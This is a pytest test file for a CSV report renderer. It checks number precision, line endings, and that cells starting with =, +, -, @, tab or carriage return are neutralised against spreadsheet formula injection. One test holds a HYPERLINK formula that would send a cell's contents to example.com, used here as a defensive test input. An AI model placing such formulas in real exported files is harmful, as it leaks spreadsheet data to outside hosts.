"""CSV: every row and digit, and no cell that a spreadsheet would run."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

import pytest

from costcalc.render import csv as renderer
from costcalc.render.report import Cell, Column, Look, Report, Table

COLUMNS = (Column("name", "Name"), Column("cost", "Cost", "money"))


def rendered(*rows: tuple[Cell, Cell]) -> list[list[str]]:
    data = Table("", COLUMNS, rows)
    return list(csv.reader(io.StringIO(renderer.render(Report("test/1", {}, "", data, (data,)), Look()), newline="")))


def test_the_header_is_of_keys_and_numbers_keep_every_digit() -> None:
    assert rendered(("a", Decimal("1234567.00013450")), (date(2026, 1, 2), None)) == [
        ["name", "cost"],
        ["a", "1234567.0001345"],
        ["2026-01-02", ""],
    ]


@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\t", "\r"])
def test_a_text_that_would_run_as_a_formula_is_neutralised(sign: str) -> None:
    text = f'{sign}HYPERLINK("https://example.com/"&A1)'
    assert rendered((text, None))[1] == [f"'{text}", ""]


def test_a_negative_number_is_no_formula() -> None:
    assert rendered(("saved", Decimal("-0.5")))[1] == ["saved", "-0.5"]


@pytest.mark.parametrize("text", ['say "hi"', "a,b", "two\nlines", "a=b", "日本"])
def test_any_other_text_comes_back_as_it_was(text: str) -> None:
    assert rendered((text, None))[1] == [text, ""]


def test_lines_end_as_the_standard_says() -> None:
    data = Table("", COLUMNS, (("a", None),))
    assert renderer.render(Report("test/1", {}, "", data, (data,)), Look()) == "name,cost\r\na,\r\n"
